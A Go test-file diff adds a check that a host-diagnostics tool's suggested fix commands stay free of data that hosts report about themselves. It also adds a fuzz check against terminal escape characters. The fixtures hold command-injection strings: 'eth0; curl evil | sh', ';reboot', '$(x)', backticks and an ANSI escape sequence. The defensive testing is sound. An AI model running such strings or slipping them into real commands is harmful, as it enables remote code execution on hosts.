@@ -8,6 +8,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -211,6 +212,26 @@ func TestReadPair(t *testing.T) {
 	}
 }
 
+// What a host says of itself does not become a part of a command.
+func TestCommandsAreSafe(t *testing.T) {
+	const evil = "eth0; curl evil | sh"
+	h := sound("h", "10.0.0.1:7;reboot", "nic.name", evil, "nic.mtu", "9001", "nic.lro", "on", "nic.duplex", "half", "container", "$(x)", "now.disk_path", "/a`b`", "now.disk_free", "1",
+		"kernel", "6.1\x1b[2J", "tcp.congestion", evil, "core.default_qdisc", evil)
+	same := sound("g", "10.0.0.3:7", "tcp.congestion", evil, "core.default_qdisc", evil)
+	f := Facts{Free: -1, Hosts: []Host{h, same, sound("b", "10.0.0.2:7")}}
+	f.Pairs = all(3, func(a, b int, p *Pair) {
+		if a == 1 {
+			p.Errors[0] = "connection refused"
+		}
+		p.Ways[0].Device = evil
+	})
+	for _, n := range Examine(f).Findings {
+		if strings.ContainsAny(n.Mend, "`$\x1b") || strings.Contains(n.Mend, "curl") || strings.Contains(n.Mend, "reboot") {
+			t.Errorf("%s: %s", n.Code, n.Mend)
+		}
+	}
+}
+
 // Whatever agents say of themselves, a report is made of it.
 func FuzzExamine(f *testing.F) {
 	f.Add("nic.mtu", "9000", "now.ports", "1 2", "connection refused", "10.0.0.1:1", int64(5))
@@ -229,6 +250,9 @@ func FuzzExamine(f *testing.F) {
 		var b bytes.Buffer
 		if err := r.Text(&b); err != nil || b.Len() == 0 {
 			t.Errorf("%v", err)
+		}
+		if i := strings.IndexFunc(b.String(), func(c rune) bool { return c != '\n' && !unicode.IsPrint(c) }); i >= 0 {
+			t.Errorf("the text would command a terminal: %q", b.String()[i:])
 		}
 		if len(r.Hosts) != 3 {
 			t.Errorf("%d hosts", len(r.Hosts))
